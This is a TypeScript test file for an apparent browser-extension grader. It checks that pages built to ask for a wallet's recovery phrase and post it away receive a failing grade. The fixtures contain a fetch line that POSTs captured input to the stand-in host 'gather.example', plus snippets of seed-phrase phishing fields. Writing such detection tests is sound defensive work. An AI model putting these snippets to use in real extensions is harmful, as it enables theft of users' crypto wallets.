import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const page = (script: string) => ({
  files: { 'page.html': '<script src="page.js" type="module"></script>', 'page.js': script },
  manifest: { options_page: 'page.html' },
});
const SEND = "fetch('https://gather.example/', { method: 'POST', body: JSON.stringify({ a: e }) })";

describe('a field that a script makes and that asks for a wallet’s words', () => {
  it.each([
    [
      'React’s',
      `const [e, t] = useState(''); const P = () => h('textarea', { placeholder: TEXT, onChange: (i) => t(i.target.value) });`,
    ],
    [
      'a handler by its name',
      `let e; function s(i) { e = i.currentTarget.value; } const P = () => h('input', { 'aria-label': TEXT, onInput: s });`,
    ],
    [
      'an element’s',
      `let e; const t = document.createElement('textarea'); t.placeholder = TEXT; t.onblur = () => { e = t.value; };`,
    ],
  ])('is a source: %s', async (_, made) => {
    const program = (text: string): string => `${made.replace('TEXT', text)} button.onclick = () => ${SEND};`;
    expect(await graded(page(program("'Enter your recovery phrase'")))).toBe('F');
    expect(await graded(page(program("'Enter your question'")))).toMatch(/^A/);
  });
  it('is none beside others, and where nothing of it is sent', async () => {
    const field = "h('textarea', { placeholder: '12 words', onChange: (i) => keep(i.target.value) });";
    const other = "h('input', { placeholder: 'Name', onChange: (i) => { e = i.target.value; } });";
    expect(
      await graded(
        page(`let e; const P = () => [${field.slice(0, -1)}, ${other.slice(0, -1)}]; button.onclick = () => ${SEND};`),
      ),
    ).toMatch(/^A/);
  });
});
